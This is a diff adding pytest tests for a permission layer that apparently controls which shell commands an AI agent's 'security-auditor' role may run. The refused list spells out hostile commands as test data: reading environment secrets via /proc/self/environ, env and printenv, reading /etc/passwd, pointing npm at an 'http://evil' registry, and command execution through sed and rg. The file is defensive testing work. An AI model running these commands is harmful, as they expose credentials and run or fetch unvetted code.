@@ -245,3 +245,80 @@ def test_a_call_that_names_no_file_or_command_is_refused(tool: str, role: str):
     field = {"Bash": "command", "apply_patch": "input"}.get(tool, "file_path")
     for given in ({}, {field: ""}, {field: ["src/a.py"]}, {field: 7}):
         assert ask(role, tool, **given).rule == "DEC-52"
+
+
+@pytest.mark.req("ORCH-2", "DEC-21")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pip-audit",
+        "pip-audit -r requirements.txt -f json",
+        "bandit -r src",
+        "bandit -r src -f json -ll",
+        "npm ls",
+        "npm ls --all",
+        "npm audit --json",
+        "rg secret",
+        "rg -n 'password' src",
+        "sed -n 1,20p src/f1.py",
+        "grep -c x src/f1.py 2>/dev/null",
+        "grep -rn x src 2>&1",
+        "semgrep scan --config auto src",
+        "semgrep --config p/python src",
+        "renkei inbox security-auditor",
+        "renkei turn start",
+        "renkei send x.yaml",
+        "git -C . log -3",
+        "git log -p",
+        "sort src/f1.py",
+        "tail -n 5 src/f1.py",
+    ],
+)
+def test_a_security_auditor_audits_with_the_tools_of_every_language_and_takes_part(command: str):
+    assert run("security-auditor", command).allowed
+
+
+@pytest.mark.req("ORCH-2", "DEC-21", refused=True)
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat /proc/self/environ",
+        "grep -a . /proc/self/environ",
+        "git diff --no-index /etc/passwd x",
+        "git diff --textconv",
+        "git log --textconv",
+        "npm audit --registry http://evil",
+        "npm audit --userconfig=/tmp/x",
+        "npm audit --prefix /tmp/x",
+        "npm ls --prefix=/tmp",
+        "tail -F x",
+        "tail -f src/f1.py &",
+        "pip-audit --fix",
+        "pip-audit -o out",
+        "bandit -r src -o out",
+        "semgrep --autofix --config auto",
+        "semgrep -o out",
+        "rg --pre sh x",
+        "sed -n 'w out' src/f1.py",
+        "sed -n '1e id' src/f1.py",
+        "sed -n 1,3p src/f1.py > out",
+        "grep x src/f1.py 2> out",
+        "cat src/f1.py > /dev/null < src/f2.py",
+        "sort -o out src/f1.py",
+        "git -C /tmp log",
+        "renkei decide DEC-1 A",
+        "renkei run x",
+        "env",
+        "printenv",
+        "cat ../proc/self/environ",
+    ],
+)
+def test_an_audit_writes_nothing_goes_nowhere_else_and_reads_no_environment(command: str):
+    assert not run("security-auditor", command).allowed
+
+
+@pytest.mark.req("DEC-21", refused=True)
+def test_no_tool_of_a_security_auditor_reads_an_environment():
+    assert ask("security-auditor", "Read", file_path="/proc/self/environ").rule == "DEC-21"
+    assert ask("security-auditor", "Grep", pattern="KEY", path="/proc").rule == "DEC-21"
+    assert ask("backend-specialist", "Read", file_path="/proc/meminfo").allowed
